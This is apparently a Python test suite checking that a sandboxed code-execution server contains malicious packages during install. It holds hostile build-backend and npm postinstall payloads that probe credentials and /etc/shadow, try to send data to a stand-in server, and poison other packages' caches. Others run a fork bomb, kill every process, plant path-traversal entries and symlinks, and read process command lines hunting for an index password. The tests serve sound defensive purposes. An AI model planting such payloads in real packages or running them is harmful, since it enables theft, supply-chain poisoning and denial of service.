"""Packages that attack: while they are installed, by what they hold, and from one to another."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.packages.conftest import Shop, at_rest
from tests.packages.index import Index, indexing
from tests.packages.wheels import huge_wheel, npm_package, sdist, wheel, wheel_name
from tests.support import machine
from tests.support.calls import Json, body, stdout

# What code that runs in a build finds out, and tries. It is put into the package as a module named `report`.
_LOOK = """
import glob, json, os, socket, urllib.request

def attempt(work):
    try:
        return str(work())
    except BaseException as error:
        return type(error).__name__

def connect(port):
    with socket.create_connection(("127.0.0.1", port), 60):
        return "connected"

def fetch(url):
    with urllib.request.urlopen(url, timeout=120) as answer:
        return answer.status

found = {{
    "uid": os.getuid(),
    "variables": sorted(os.environ),
    "capabilities": [line.split()[1] for line in open("/proc/self/status") if line.startswith("CapEff")][0],
    "machine": [path for path in ("/root", "/home", "/etc/shadow", "{store}", "{runtimes}") if os.path.exists(path)],
    "write": {{
        path: attempt(lambda: open(path + "/evil", "w"))
        for path in ("/usr/local/lib/python3.11/dist-packages", "/usr/lib/python3", "/run/packages/uv/bin", "/opt", "/")
    }},
    "index": attempt(lambda: fetch("{index}/files/{beacon}")),
    "directly": attempt(lambda: connect({port})),
    "elsewhere": attempt(lambda: fetch("{elsewhere}/leaked")),
    "processes": len(glob.glob("/proc/[0-9]*")),
}}
"""
_BACKEND = """
{look}
import base64, hashlib, zipfile
def get_requires_for_build_wheel(config_settings=None):
    return []
def prepare_metadata_for_build_wheel(directory, config_settings=None):
    os.mkdir(directory + "/{module}-1.0.dist-info")
    for name, text in (("METADATA", "Metadata-Version: 2.1\\nName: {name}\\nVersion: 1.0\\n"), ("WHEEL", WHEEL)):
        open(directory + "/{module}-1.0.dist-info/" + name, "w").write(text)
    return "{module}-1.0.dist-info"
WHEEL = "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"
def build_wheel(directory, config_settings=None, metadata_directory=None):
    {then}
    with zipfile.ZipFile(directory + "/{module}-1.0-py3-none-any.whl", "w") as wheel:
        wheel.writestr("report.py", "found = " + repr(found))
        wheel.writestr("{module}-1.0.dist-info/METADATA", "Metadata-Version: 2.1\\nName: {name}\\nVersion: 1.0\\n")
        wheel.writestr("{module}-1.0.dist-info/WHEEL", WHEEL)
        wheel.writestr("{module}-1.0.dist-info/RECORD", "")
    return "{module}-1.0-py3-none-any.whl"
"""


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Index]:
    """A server on this machine that no build has any business with."""
    with indexing() as made:
        yield made


@pytest.fixture(scope="module")
def lax_data(tmp_path_factory: pytest.TempPathFactory, data_dir: Path) -> Path:
    made = tmp_path_factory.mktemp("lax")
    (made / "runtimes").symlink_to((data_dir / "runtimes").resolve())
    return made


@pytest.fixture(scope="module")
def lax(shop: Shop, lax_data: Path) -> Iterator[httpx.Client]:
    """A client of a server whose policy lets packages run code while they are installed."""
    config = {"policy": {"packageScripts": True}, "packages": {"layerSize": "64m"}}
    with shop(config, data=lax_data).client() as made:
        yield made


def evil(index: Index, elsewhere: Index, data: Path, name: str, then: str = "pass") -> None:
    """Offer a source package that looks around while it is built, and then does something more."""
    index.files["/files/beacon"] = b"here"
    look = _LOOK.format(
        store=data / "layers", runtimes=data / "runtimes", index=index.url, beacon="beacon", port=elsewhere.port,
        elsewhere=elsewhere.url,
    )  # fmt: skip
    module = name.replace("-", "_")
    backend = _BACKEND.format(look=look, module=module, name=name, then=then)
    index.add(name, f"{module}-1.0.tar.gz", sdist(name, backend))


def test_a_malicious_build_is_contained(
    lax: httpx.Client, index: Index, elsewhere: Index, lax_data: Path, shop: Shop
) -> None:
    evil(index, elsewhere, lax_data, "evil-build")
    printed = stdout(lax, "import json, report; print(json.dumps(report.found))", installPackages=["evil-build"])
    found: dict[str, Any] = json.loads(printed)
    assert found["uid"] >= 1_900_000_000
    assert int(found["capabilities"], 16) == 0
    assert found["machine"] == []
    assert set(found["write"].values()) <= {"PermissionError", "OSError", "FileNotFoundError"}, found["write"]
    assert not any(name.startswith(("ISOL8", "SERVER_ONLY")) for name in found["variables"])
    # The index is what builds may reach, and all that they may.
    assert found["index"] == "200"
    assert found["directly"] == "ConnectionRefusedError"
    assert found["elsewhere"] == "HTTPError"
    assert not elsewhere.requests


def test_a_build_cannot_change_what_another_gets(
    lax: httpx.Client, index: Index, elsewhere: Index, lax_data: Path
) -> None:
    """It writes a false copy of a package wherever it may; the next build of that package is what the index has."""
    index.add_wheel("victim", "value = 'true'")
    poison = """
    for top in ("/sandbox", "/tmp", "/dev/shm", os.environ.get("UV_CACHE_DIR", "/tmp"), os.environ.get("HOME", "/tmp")):
        for place, _, _ in os.walk(top):
            attempt(lambda: open(place + "/victim.py", "w").write("value = 'false'"))
            if place != directory:
                attempt(lambda: open(place + "/victim-1.0-py3-none-any.whl", "wb").write(b"false"))
"""
    evil(index, elsewhere, lax_data, "evil-poison", then=poison)
    assert stdout(lax, "import report; print('ok')", installPackages=["evil-poison"]) == "ok\n"
    assert stdout(lax, "import victim; print(victim.value)", installPackages=["victim"]) == "true\n"
    assert index.fetched("victim") == 1
    assert "ModuleNotFoundError" in lax.post("/execute", json=body("import report", installPackages=["victim"])).text


@pytest.mark.parametrize(
    ("what", "then"),
    [
        ("forks", "\n    while True: os.fork()"),
        ("hangs", "\n    import time; time.sleep(600)"),
        ("memory", "x = bytearray(20 << 30)"),
        ("disk", "open('/sandbox/full', 'wb').write(bytes(300 << 20))"),
        ("killing", "os.kill(-1, 9)"),
    ],
)
def test_a_build_is_bounded(shop: Shop, index: Index, elsewhere: Index, lax_data: Path, what: str, then: str) -> None:
    name = f"evil-{what}"
    evil(index, elsewhere, lax_data, name, then=then)
    bounds = {"layerSize": "64m", "buildTimeoutMs": 8_000, "buildMemory": "256m", "buildPids": 40}
    with _strict(shop, lax_data, bounds) as client:
        problem = client.post("/execute", json=body("1", installPackages=[name]))
        assert problem.status_code == 500, problem.text
        assert problem.json()["error"].startswith("Package install failed: ")
        assert stdout(client, "print('still here')") == "still here\n"
    at_rest(lax_data)


_SERVERS: dict[str, Any] = {}


def _strict(shop: Shop, data: Path, bounds: Json) -> httpx.Client:
    """A client of one server with tight bounds for builds, which all of these tests share."""
    if "strict" not in _SERVERS:
        _SERVERS["strict"] = shop({"policy": {"packageScripts": True}, "packages": bounds}, data=data)
    client: httpx.Client = _SERVERS["strict"].client()
    return client


def test_files_that_lead_out_of_a_layer(client: httpx.Client, index: Index, data_dir: Path, tmp_path: Path) -> None:
    outside = tmp_path / "evil.txt"
    files = {
        "slip.py": "value = 1",
        "../../../../../../../../../.." + str(outside): "evil",
        str(outside): "evil",
        "../slipped.py": "evil",
    }
    index.add("slip", wheel_name("slip"), wheel("slip", files))
    answer = client.post("/execute", json=body("import slip; print(slip.value)", installPackages=["slip"]))
    assert answer.status_code in (200, 500), answer.text
    assert not outside.exists()
    store = at_rest(data_dir)
    assert not list(store.glob("**/slipped.py"))
    assert all(path.is_relative_to(data_dir) for path in store.rglob("*"))


def test_ten_gigabytes_in_a_wheel(shop: Shop, index: Index, lax_data: Path) -> None:
    content = huge_wheel("huge", 10 << 30)
    assert len(content) < 16 << 20
    index.files[f"/files/{wheel_name('huge')}"] = content
    index._pages["huge"] = [f'<a href="../../files/{wheel_name("huge")}">{wheel_name("huge")}</a>']
    bounds = {"layerSize": "64m", "buildMemory": "256m"}
    with _strict(shop, lax_data, bounds) as client:
        problem = client.post("/execute", json=body("1", installPackages=["huge"]))
        assert problem.status_code == 500, problem.text
        assert problem.json()["error"].startswith("Package install failed: ")
    assert not any(path.stat().st_size > 1 << 20 for path in at_rest(lax_data).rglob("*"))


def test_ten_gigabytes_that_are_holes(lax: httpx.Client, index: Index, elsewhere: Index, lax_data: Path) -> None:
    """A sparse file costs the build nothing, and would cost the store ten gigabytes."""
    sparse = """
    os.makedirs("/sandbox/layer", exist_ok=True)
    with open("/sandbox/layer/holes", "wb") as file: file.truncate(10 << 30)
"""
    evil(index, elsewhere, lax_data, "evil-holes", then=sparse)
    problem = lax.post("/execute", json=body("1", installPackages=["evil-holes"]))
    assert problem.status_code == 500, problem.text
    assert "packages.layerSize" in problem.json()["error"]
    assert not any(path.name == "holes" for path in at_rest(lax_data).rglob("*"))


def test_links_and_devices_stay_where_they_are(
    lax: httpx.Client, index: Index, elsewhere: Index, lax_data: Path
) -> None:
    links = """
    os.makedirs("/sandbox/layer", exist_ok=True)
    os.symlink("/etc/shadow", "/sandbox/layer/shadow")
"""
    evil(index, elsewhere, lax_data, "evil-links", then=links)
    problem = lax.post("/execute", json=body("1", installPackages=["evil-links"]))
    assert "a link that leads out of it" in problem.json()["error"]
    assert not any(path.is_symlink() for path in at_rest(lax_data).rglob("*"))


def test_npm_scripts_run_when_the_policy_lets_them_and_are_contained(
    lax: httpx.Client, client: httpx.Client, index: Index, elsewhere: Index
) -> None:
    """The script tells the index that it ran, tries the server that it must not reach, and leaves a file."""
    script = f"""
const http = require('http'), fs = require('fs')
const proxy = new URL(process.env.HTTP_PROXY)
for (const path of ['{index.url}/npm-ran', '{elsewhere.url}/leaked']) {{
  const headers = {{ host: new URL(path).host }}
  http.get({{ host: proxy.hostname, port: proxy.port, path, headers }}).on('error', () => 0)
}}
http.get('{elsewhere.url}/directly').on('error', () => 0)
fs.writeFileSync('ran.json', JSON.stringify({{ uid: process.getuid(), env: Object.keys(process.env) }}))
try {{ fs.writeFileSync('/usr/evil', '') }} catch {{ }}
"""
    scripts: Json = {"scripts": {"postinstall": "node script.js"}}
    index.add_npm("scripted", npm_package("scripted", {"index.js": "", "script.js": script}, **scripts), **scripts)
    code = "console.log(require('fs').existsSync('/node_modules/scripted/ran.json'))"
    assert stdout(client, code, "node", installPackages=["scripted"]) == "false\n"
    assert index.requests["/npm-ran"] == 0
    assert stdout(lax, code, "node", installPackages=["scripted"]) == "true\n"
    machine.until(lambda: index.requests["/npm-ran"], "the script has run")
    seen = json.loads(
        stdout(lax, "console.log(JSON.stringify(require('/node_modules/scripted/ran.json')))", "node",
               installPackages=["scripted"])
    )  # fmt: skip
    assert seen["uid"] >= 1_900_000_000
    assert not any(name.startswith(("ISOL8", "SERVER_ONLY")) for name in seen["env"])
    assert not elsewhere.requests
    assert not Path("/usr/evil").exists()


def test_a_password_of_the_index_is_for_nobody(shop: Shop, index: Index, lax_data: Path) -> None:
    """It is in no error message, and builds that run code of packages do not have it."""
    address = index.url.replace("http://", "http://user:hunter2@") + "/simple/"
    with shop(PIP_INDEX_URL=address).client() as client:
        answer = client.post("/execute", json=body("1", installPackages=["no-such-thing"]))
        assert answer.status_code == 500, answer.text
        assert "hunter2" not in answer.text
    leak = "\n    found['arguments'] = [attempt(lambda: open(p).read()) for p in glob.glob('/proc/[0-9]*/cmdline')]"
    evil(index, index, lax_data, "evil-curious", then=leak)
    with shop({"policy": {"packageScripts": True}}, data=lax_data, PIP_INDEX_URL=address).client() as client:
        printed = stdout(client, "import report; print(report.found)", installPackages=["evil-curious"])
    assert "arguments" in printed
    assert "hunter2" not in printed
